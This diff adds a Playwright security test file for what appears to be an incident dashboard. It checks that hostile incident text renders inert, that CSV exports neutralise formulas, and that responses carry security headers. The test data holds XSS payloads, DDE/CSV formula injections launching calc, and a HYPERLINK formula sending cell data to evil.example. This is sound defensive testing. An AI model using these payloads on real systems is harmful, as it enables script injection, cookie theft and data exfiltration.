@@ -1,0 +1,90 @@
+import { readFileSync } from "node:fs";
+import { expect, partnerUsers, signIn, test } from "./fixtures.ts";
+
+/**
+ * Hostile data from a customer's tenant, seeded through the simulator and synced like any other incident: pages
+ * must render it inert and exports must neutralise spreadsheet formulas.
+ */
+const MARK = "pwn" + Math.random().toString(36).slice(2, 8);
+const hostile = {
+  title: `<script>window.${MARK}=1</script><img src=x onerror="window.${MARK}=2" id="${MARK}">`,
+  comments: [`<iframe id="${MARK}-frame" src="javascript:alert(1)"></iframe>`, "=cmd|' /C calc'!A0", `bidi\u202Eevil\u0007bell`],
+  tags: [`<b id="${MARK}-tag">tag</b>`],
+  alertTitle: `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
+  filePath: `C:\\Users\\<svg onload="window.${MARK}=3">\\evil.exe`,
+  processCommandLine: `powershell -enc ${"A".repeat(1_048_000)}`,
+  url: "javascript:alert(document.cookie)",
+  accountName: "@SUM(1+1)*cmd|' /C calc'!A0",
+  severity: "High" as const,
+};
+
+test("hostile incident text renders inert in every view and exports neutralise formulas", async ({ page, sim, data }) => {
+  const { admin } = await partnerUsers(sim);
+  const c = await data.consentedCustomer("Hostile");
+  await sim.injectIncident(c.tenantId, hostile);
+  await data.syncCustomer(c.id);
+  const dialogs: string[] = [];
+  page.on("dialog", (d) => {
+    dialogs.push(d.message());
+    void d.dismiss();
+  });
+  await signIn(page, admin.upn);
+
+  const injected = async () =>
+    page.evaluate((mark) => ({
+      flag: (window as unknown as Record<string, unknown>)[mark] ?? null,
+      elements: document.querySelectorAll(`[id^="${mark}"]`).length,
+      // An injected <script> element would hold exactly the payload (Next's own RSC scripts carry it as escaped data).
+      scripts: [...document.scripts].filter((s) => s.textContent?.trim().startsWith(`window.${mark}`)).length,
+    }), MARK);
+
+  await page.goto(`/incidents?customer=${c.id}&range=all&q=script`);
+  await expect(page.getByTestId("incident-row")).toHaveCount(1);
+  await expect(page.getByTestId("incident-row")).toContainText("<script>");
+  expect(await injected()).toEqual({ flag: null, elements: 0, scripts: 0 });
+
+  await page.getByTestId("incident-row").getByRole("link").first().click();
+  await expect(page.getByTestId("incident-title")).toContainText("<script>");
+  await expect(page.getByText("=cmd|' /C calc'!A0").first()).toBeVisible();
+  // Control and bidi characters are shown, not obeyed; the megabyte command line is cut with a note.
+  await expect(page.locator("body")).toContainText("<U+202E>");
+  await expect(page.locator("body")).toContainText("more characters not shown");
+  // No customer-sourced javascript: URL becomes a link.
+  expect(await page.locator('a[href^="javascript:"]').count()).toBe(0);
+  expect(await injected()).toEqual({ flag: null, elements: 0, scripts: 0 });
+
+  await page.goto(`/alerts?customer=${c.id}&range=all&q=HYPERLINK`);
+  await expect(page.getByTestId("alert-row").first()).toBeVisible();
+  await page.getByTestId("alert-row").first().getByRole("link").first().click();
+  await expect(page.locator("body")).toContainText("=HYPERLINK(");
+  expect(await injected()).toEqual({ flag: null, elements: 0, scripts: 0 });
+
+  await page.goto(`/overview`);
+  await page.goto(`/customers/${c.id}`);
+  expect(await injected()).toEqual({ flag: null, elements: 0, scripts: 0 });
+  expect(dialogs).toEqual([]);
+
+  await page.goto(`/alerts?customer=${c.id}&range=all&q=HYPERLINK`);
+  const [download] = await Promise.all([page.waitForEvent("download"), page.getByTestId("export-csv").click()]);
+  const csv = readFileSync((await download.path())!, "utf8");
+  expect(csv).toContain(`"'=HYPERLINK(`);
+  expect(csv).not.toMatch(/(^|,)"=/m);
+});
+
+test("every response carries a CSP with frame-ancestors 'none' and no server banner; session cookies are HttpOnly", async ({ page, request, sim }) => {
+  for (const path of ["/signin", "/api/auth/csrf", "/overview", "/no-such-page"]) {
+    const res = await request.get(path, { maxRedirects: 0 });
+    const h = res.headers();
+    expect(h["content-security-policy"], path).toContain("frame-ancestors 'none'");
+    expect(h["content-security-policy"], path).toContain("object-src 'none'");
+    expect(h["x-frame-options"], path).toBe("DENY");
+    expect(h["x-content-type-options"], path).toBe("nosniff");
+    expect(h["x-powered-by"], path).toBeUndefined();
+    expect(h["server"] ?? "", path).not.toMatch(/\d/);
+  }
+  const { admin } = await partnerUsers(sim);
+  await signIn(page, admin.upn);
+  const session = (await page.context().cookies()).find((c) => c.name.endsWith("next-auth.session-token"));
+  expect(session?.httpOnly).toBe(true);
+  expect(session?.sameSite).toBe("Lax");
+});
